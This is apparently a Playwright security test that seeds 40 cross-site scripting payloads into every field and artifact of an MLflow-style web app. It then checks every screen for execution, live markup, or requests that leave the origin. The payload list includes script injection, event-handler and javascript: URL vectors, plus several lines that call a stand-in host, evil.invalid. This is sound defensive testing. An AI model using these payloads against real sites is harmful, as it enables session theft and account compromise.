// An XSS corpus (40 payloads) in every user-controlled field, seeded through the client API (window.flowpad.client
// and .registry, as a user script or an imported store would), then every screen is visited. Each payload, if it
// ever ran, would call `window.__xss(n)` (defined by an init script) or fetch http://evil.invalid/n. Asserted on
// every screen: no `__xss` call, no dialog, no page error, no CSP report of a refused *script* (an attempted
// execution), no live markup from a payload in the DOM (event-handler attributes, script/object/embed/base/meta/
// form elements, javascript: or foreign URLs in src/href/action), and no request to any origin but the app's.
// The .html artifact must preview in an iframe with an empty `sandbox` (no scripts).
import { type ConsoleMessage, expect, type Page, type Request, test } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { appReady, snap } from './helpers/app';

const ONNX = [...readFileSync(fileURLToPath(new URL('../test/fixtures/mlflow/model-format/onnx/sklearn_model.onnx', import.meta.url)))];

/** Payload n: every one reports through `__xss(n)` or a request to evil.invalid when it runs. */
const PAYLOADS: string[] = [
  '<script>__xss(1)</script>',
  '<img src=x onerror=__xss(2)>',
  '<svg onload=__xss(3)>',
  '<svg><script>__xss(4)</script></svg>',
  'javascript:__xss(5)',
  '<a href="javascript:__xss(6)">click</a>',
  '<iframe srcdoc="<script>parent.__xss(7)</script>"></iframe>',
  '<iframe src="javascript:parent.__xss(8)"></iframe>',
  '<div style="background:url(http://evil.invalid/9)">x</div>',
  '<div style="width:expression(__xss(10))">x</div>',
  '[click me](javascript:__xss(11))',
  '![pixel](http://evil.invalid/12.png)',
  '![x](x" onerror="__xss(13))',
  '</textarea><script>__xss(14)</script>',
  '${__xss(15)}',
  "{{constructor.constructor('__xss(16)')()}}",
  '\u202E<img src=x onerror=__xss(17)>\u202C',
  '<body onload=__xss(18)>',
  '<input autofocus onfocus=__xss(19)>',
  '<details open ontoggle=__xss(20)>',
  '<object data="javascript:__xss(21)"></object>',
  '<embed src="http://evil.invalid/22">',
  '<link rel=stylesheet href=http://evil.invalid/23.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(24)">',
  '<base href="http://evil.invalid/25/">',
  '<form action="http://evil.invalid/26"><button>go</button></form>',
  '"><script>__xss(27)</script>',
  "'><img src=x onerror=__xss(28)>",
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(29)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(30)>">',
  '=HYPERLINK("http://evil.invalid/31","x")',
  '<video><source onerror=__xss(32)></video>',
  "<style>@import 'http://evil.invalid/33.css';</style>",
  '&lt;img src=x onerror=__xss(34)&gt;',
  '[data](data:text/html,<script>__xss(35)</script>)',
  '<img srcset="http://evil.invalid/36 1x">',
  '[enc](&#106;avascript:__xss(37))',
  '<svg><animate onbegin=__xss(38) attributeName=x dur=1s>',
  '<marquee onstart=__xss(39)>x</marquee>',
  '<a href="http://evil.invalid/40" autofocus onfocus=__xss(40)>x</a>',
];

interface Watch {
  hits: () => Promise<number[]>;
  problems: string[];
  /** Requests to another origin that reached the network layer (caught and aborted by the route): leaks. */
  foreign: string[];
  /** Requests to another origin the page started and the browser has not yet refused. */
  pending: Set<string>;
  /** Requests to another origin refused by a Content-Security-Policy before leaving the browser. */
  blocked: string[];
  cspReports: string[];
}

async function watch(page: Page): Promise<Watch> {
  const w: Watch = {
    hits: () => page.evaluate(() => (window as unknown as { __xssHits: number[] }).__xssHits ?? []),
    problems: [], foreign: [], pending: new Set(), blocked: [], cspReports: [],
  };
  const isForeign = (u: string) => {
    const url = new URL(u);
    return url.hostname !== 'localhost' && !['data:', 'blob:', 'about:'].includes(url.protocol);
  };
  await page.addInitScript(() => {
    const win = window as unknown as { __xssHits: number[]; __xss: (n: number) => void };
    win.__xssHits = [];
    win.__xss = (n) => win.__xssHits.push(n);
  });
  // Every request that would reach the network passes this route: a foreign one is a leak (aborted here).
  await page.context().route('**/*', (route, req: Request) => {
    if (!isForeign(req.url())) return route.continue();
    w.foreign.push(req.url());
    return route.abort();
  });
  // The page may *start* a foreign request that the CSP then refuses inside the browser (Chromium reports it as
  // a request that failed with 'csp'): not a leak, but each one must end that way.
  page.on('request', (req) => {
    if (isForeign(req.url())) w.pending.add(req.url());
  });
  page.on('requestfailed', (req) => {
    if (!isForeign(req.url())) return;
    w.pending.delete(req.url());
    if (/csp/i.test(req.failure()?.errorText ?? '')) w.blocked.push(req.url());
  });
  page.on('dialog', (d) => {
    w.problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on('pageerror', (e) => w.problems.push(`page error: ${e.message}`));
  page.on('console', (m: ConsoleMessage) => {
    const text = m.text();
    if (!/Content Security Policy|Blocked script execution/.test(text)) return;
    w.cspReports.push(text);
    // The sandboxed HTML preview refusing its scripts is the defence working, not an attempt on the app.
    if (/Blocked script execution in 'about:srcdoc'.*sandboxed/.test(text)) return;
    const where = m.location().url;
    if (where === 'about:srcdoc' || where.startsWith('javascript:')) return; // inside the sandboxed preview
    if (/script|event handler|javascript:/i.test(text)) w.problems.push(`CSP at ${JSON.stringify(m.location())}: ${text}`);
  });
  return w;
}

/** Live markup a payload would have to become to do anything: returned as descriptions (empty = inert). */
function scanDom(): string[] {
  const out: string[] = [];
  const isPreview = (el: Element) => el.matches('iframe.preview-html') && el.getAttribute('sandbox') === '';
  for (const el of document.querySelectorAll('body *')) {
    const tag = el.tagName.toLowerCase();
    if (tag === 'noscript' && el.parentElement === document.body) continue; // index.html's own
    if (['script', 'object', 'embed', 'base', 'meta', 'link', 'marquee', 'noscript'].includes(tag)) out.push(`<${tag}> in body`);
    if (tag === 'form' && el.hasAttribute('action')) out.push(`<form action=${el.getAttribute('action')}>`); // the app's forms have none
    if (tag === 'iframe' && !isPreview(el)) out.push(`unsandboxed iframe ${el.outerHTML.slice(0, 80)}`);
    for (const a of el.attributes) {
      const v = a.value;
      if (/^on/i.test(a.name)) out.push(`${tag}[${a.name}]`);
      // A link the user wrote (markdown) may point anywhere: it loads nothing, opens only on a click, without opener.
      const userLink = tag === 'a' && a.name === 'href' && /^https?:/i.test(v) && /noopener/.test(el.getAttribute('rel') ?? '');
      const inAppRoute = a.name === 'href' && v.startsWith('#/'); // a hash route (names percent-encoded in it)
      if (!userLink && !inAppRoute && ['src', 'srcset', 'href', 'action', 'data', 'xlink:href', 'formaction'].includes(a.name.toLowerCase())) {
        if (/^\s*(javascript|vbscript|data:text\/html)/i.test(v) || /evil\.invalid|__xss/.test(v)) out.push(`${tag}[${a.name}=${v.slice(0, 60)}]`);
      }
      if (a.name === 'style' && /url\(|expression\(/i.test(v) && /evil|__xss/.test(v)) out.push(`${tag}[style=${v.slice(0, 60)}]`);
      if (a.name === 'srcdoc' && !isPreview(el)) out.push(`${tag}[srcdoc]`);
    }
  }
  return out;
}

/** Checks the screen now shown, then screenshots it. */
async function inert(page: Page, w: Watch, name: string): Promise<void> {
  await page.waitForLoadState('load');
  expect(await page.evaluate(scanDom), `live markup on ${name}`).toEqual([]);
  expect(await w.hits(), `__xss calls on ${name}`).toEqual([]);
  expect(w.problems, `on ${name}`).toEqual([]);
  await expect.poll(() => [...w.pending], { message: `foreign requests not refused on ${name}` }).toEqual([]);
  expect(w.foreign, `foreign requests on ${name}`).toEqual([]);
  await snap(page, `xss-${name}`);
}

test.use({ actionTimeout: 20_000 });

const yamlString = (s: string) => JSON.stringify(s);

test('40 XSS payloads in every field render inert on every screen, and nothing leaves the origin', async ({ page }) => {
  test.setTimeout(240_000);
  const w = await watch(page);
  await page.goto('/');
  await appReady(page);

  const seeded = await page.evaluate(async ({ payloads, onnx, yamls }) => {
    const c = window.flowpad.client;
    const r = window.flowpad.registry;
    const accepted: Record<string, number> = {};
    const tryIt = async (field: string, f: () => Promise<unknown>) => {
      try {
        await f();
        accepted[field] = (accepted[field] ?? 0) + 1;
      } catch {
        // refused by validation (e.g. key grammar): inert by definition
      }
    };
    const main = await c.createExperiment('xss-main');
    await c.setExperimentTag(main, 'mlflow.note.content', payloads.map((p, i) => `${i + 1}. ${p}`).join('\n\n'));
    const runIds: string[] = [];
    for (const [i, p] of payloads.entries()) {
      const n = i + 1;
      await tryIt('experiment name', async () => {
        const id = await c.createExperiment(`${n} ${p}`);
        await c.setExperimentTag(id, 'mlflow.note.content', p);
        await c.setExperimentTag(id, `tag${n}`, p);
      });
      await tryIt('experiment tag key', () => c.setExperimentTag(main, p, `v${n}`));
      const run = await c.createRun(main, { runName: `run ${n} ${p}` });
      const id = run.info.runId;
      runIds.push(id);
      accepted['run name'] = (accepted['run name'] ?? 0) + 1;
      await tryIt('param value', () => c.logParam(id, 'payload', p));
      await tryIt('param key', () => c.logParam(id, p, `${n}`));
      await tryIt('metric key', () => c.logMetric(id, p, n, { step: 0 }));
      await c.logMetric(id, 'score', n, { step: 0 });
      await tryIt('tag value', () => c.setTag(id, 'payload', p));
      await tryIt('tag key', () => c.setTag(id, p, `${n}`));
      await tryIt('run note', () => c.setTag(id, 'mlflow.note.content', `note ${n}: ${p}`));
      await c.setTerminated(id, 'FINISHED');
    }

    // Artifacts of run 1: names and contents.
    const a = await c.createRun(main, { runName: 'artifacts' });
    const aid = a.info.runId;
    for (const [i, p] of payloads.entries()) {
      await tryIt('artifact name', () => c.logText(aid, p, `names/${i + 1} ${p.replace(/[\\/\0]/g, '_')}.txt`));
    }
    await c.logText(aid, payloads.join('\n'), 'payloads.txt');
    await c.logText(aid, payloads.map((p) => `# ${p}\n\n${p}\n`).join('\n'), 'notes.md');
    const csvCell = (p: string) => `"${p.replace(/"/g, '""')}"`;
    await c.logText(aid, `id,payload\n${payloads.map((p, i) => `${i + 1},${csvCell(p)}`).join('\n')}\n`, 'table.csv');
    await c.logDict(aid, { columns: ['id', 'payload'], data: payloads.map((p, i) => [i + 1, p]) }, 'table.json');
    await c.logText(aid, `<html><body>${payloads.join('<br>')}<script>parent.__xss(999)</script></body></html>`, 'report.html');
    await c.logText(aid, `<svg xmlns="http://www.w3.org/2000/svg" onload="__xss(998)"><script>__xss(997)</script></svg>`, 'plot.svg');
    // A model folder whose MLmodel carries payloads in its free-text fields and signature names.
    await c.logText(aid, yamls.mlmodel.replace('RUN_ID', aid), 'model/MLmodel');
    await c.logArtifact(aid, 'model/model.onnx', new Uint8Array(onnx));
    await c.setTerminated(aid, 'FINISHED');

    // Registry.
    let modelName = '';
    for (const [i, p] of payloads.entries()) {
      const name = `${i + 1} ${p}`;
      await tryIt('model name', async () => {
        await r.createRegisteredModel(name, { description: p, tags: { payload: p } });
        if (!modelName) modelName = name;
      });
    }
    if (!modelName) {
      modelName = 'xss-model';
      await r.createRegisteredModel(modelName, { description: payloads.join('\n\n') });
    }
    const v = await r.createModelVersion(modelName, `runs:/${aid}/model`, { description: payloads.join('\n\n'), tags: { payload: payloads[1] } });
    for (const p of payloads) await tryIt('model tag', () => r.setRegisteredModelTag(modelName, p, p));
    for (const p of payloads) await tryIt('version tag', () => r.setModelVersionTag(modelName, v.version, `t${p.length}`, p));
    for (const p of payloads) await tryIt('alias', () => r.setRegisteredModelAlias(modelName, p, v.version));
    await r.setRegisteredModelAlias(modelName, 'champion', v.version);
    return { main, runIds, aid, modelName, version: String(v.version), accepted };
  }, { payloads: PAYLOADS, onnx: ONNX, yamls: { mlmodel: mlmodelWithPayloads() } });
  console.log('accepted per field:', JSON.stringify(seeded.accepted));
  // Free-text fields take every payload; key grammars refuse them (inert by construction).
  for (const field of ['experiment name', 'run name', 'param value', 'tag value', 'run note', 'artifact name']) {
    expect(seeded.accepted[field], field).toBe(PAYLOADS.length);
  }
  // Model names may not contain '/' or ':' (MLflow's rule); every other payload is a model's name.
  expect(seeded.accepted['model name']).toBe(PAYLOADS.filter((p) => !/[/:]/.test(p)).length);

  const go = async (hash: string, name: string, ready: () => Promise<void>) => {
    await page.goto(`/#${hash}`);
    await ready();
    await inert(page, w, name);
  };
  const heading = (level: number) => page.getByRole('heading', { level }).first();

  await go('/', 'experiments', () => expect(page.getByRole('table', { name: 'Experiments' })).toContainText('__xss(40)'));
  await go(`/experiments/${seeded.main}`, 'runs-table', () => expect(page.getByRole('link', { name: /run 40/ })).toBeVisible());
  await page.getByRole('button', { name: 'Columns' }).click();
  await inert(page, w, 'columns');
  await page.getByRole('dialog').getByRole('button', { name: 'Done' }).click();
  await page.getByLabel('Group by').selectOption('param:payload');
  await inert(page, w, 'grouped');
  await page.getByLabel('Filter runs').fill(`params.payload = '${PAYLOADS[1].replace(/'/g, "\\'")}'`);
  await page.getByLabel('Filter runs').press('Enter');
  await inert(page, w, 'filtered');
  for (const p of PAYLOADS.slice(0, 8)) {
    await page.getByLabel('Filter runs').fill(p);
    await page.getByLabel('Filter runs').press('Enter');
  }
  await inert(page, w, 'filter-payloads');
  await go(`/runs?filter=${encodeURIComponent(PAYLOADS[0])}`, 'runs-page', () => expect(heading(1)).toBeVisible());

  const run = seeded.runIds[1];
  await go(`/experiments/${seeded.main}/runs/${run}`, 'run-overview', () => expect(page.getByText('note 2:').first()).toBeVisible());
  await go(`/experiments/${seeded.main}/runs/${run}/metrics`, 'run-metrics', () => expect(heading(1)).toBeVisible());
  await go(`/experiments/${seeded.main}/runs/${seeded.aid}/artifacts/`, 'artifacts', () => expect(page.getByText('payloads.txt').first()).toBeVisible());
  for (const [file, name] of [['payloads.txt', 'text'], ['notes.md', 'markdown'], ['table.csv', 'csv'], ['table.json', 'json'], ['plot.svg', 'svg'], ['model/MLmodel', 'mlmodel'], ['names', 'names']] as const) {
    await go(`/experiments/${seeded.main}/runs/${seeded.aid}/artifacts/${file}`, `artifact-${name}`, () => expect(heading(1)).toBeVisible());
  }
  await go(`/experiments/${seeded.main}/runs/${seeded.aid}/artifacts/report.html`, 'artifact-html', async () => {
    const frame = page.locator('iframe.preview-html');
    await expect(frame).toBeVisible();
    expect(await frame.getAttribute('sandbox')).toBe('');
    await expect(page.frameLocator('iframe.preview-html').locator('body')).toContainText('[click me](javascript:__xss(11))'); // parsed as HTML, but script-less
  });
  await go(`/experiments/${seeded.main}/runs/${seeded.aid}/artifacts/model`, 'artifact-model', () => expect(heading(1)).toBeVisible());
  await go(`/compare?runs=${seeded.runIds.slice(0, 6).join(',')}`, 'compare', () => expect(heading(1)).toBeVisible());
  for (const view of ['table', 'params', 'diff']) {
    await page.goto(`/#/compare?runs=${seeded.runIds.slice(0, 6).join(',')}&view=${view}`);
    await expect(heading(1)).toBeVisible();
    await inert(page, w, `compare-${view}`);
  }
  await go('/models', 'models', () => expect(page.getByRole('table', { name: 'Registered models' })).toBeVisible());
  const model = encodeURIComponent(seeded.modelName);
  await go(`/models/${model}`, 'model', () => expect(heading(1)).toHaveText(seeded.modelName));
  await go(`/models/${model}/versions/${seeded.version}`, 'model-version', () => expect(heading(1)).toContainText(seeded.modelName));
  await go(`/models/${model}/versions/${seeded.version}/serve`, 'serving', () => expect(heading(1)).toBeVisible());
  await go('/serve', 'serve-landing', () => expect(heading(1)).toBeVisible());
  await go('/storage', 'storage', () => expect(page.getByText('xss-main').first()).toBeVisible());
  await go('/import', 'import', () => expect(heading(1)).toBeVisible());

  // A last look for anything that ran late (lazy previews, timers).
  expect(await w.hits()).toEqual([]);
  expect(w.problems).toEqual([]);
  expect(w.foreign).toEqual([]);
  expect([...w.pending]).toEqual([]);
  console.log(`CSP reports (blocked loads, none a script run in the app): ${w.cspReports.length}; foreign requests refused by the CSP inside the browser: ${w.blocked.length}`);
});

/** An ONNX MLmodel whose free-text fields and signature input name carry payloads. */
function mlmodelWithPayloads(): string {
  const inputs = JSON.stringify([{ name: PAYLOADS[1], type: 'tensor', 'tensor-spec': { dtype: 'float32', shape: [-1, 4] } }]);
  const outputs = JSON.stringify([{ name: PAYLOADS[2], type: 'tensor', 'tensor-spec': { dtype: 'float32', shape: [-1, 1] } }]);
  return `artifact_path: model
flavors:
  onnx:
    code: null
    data: model.onnx
    onnx_version: ${yamlString(PAYLOADS[0])}
    providers:
    - ${yamlString(PAYLOADS[3])}
  python_function:
    data: model.onnx
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.onnx
    python_version: ${yamlString(PAYLOADS[4])}
metadata:
  note: ${yamlString(PAYLOADS[6])}
  link: ${yamlString(PAYLOADS[10])}
mlflow_version: ${yamlString(PAYLOADS[13])}
model_uuid: ${yamlString(PAYLOADS[26])}
run_id: RUN_ID
signature:
  inputs: ${yamlString(inputs)}
  outputs: ${yamlString(outputs)}
  params: null
utc_time_created: ${yamlString(PAYLOADS[14])}
`;
}
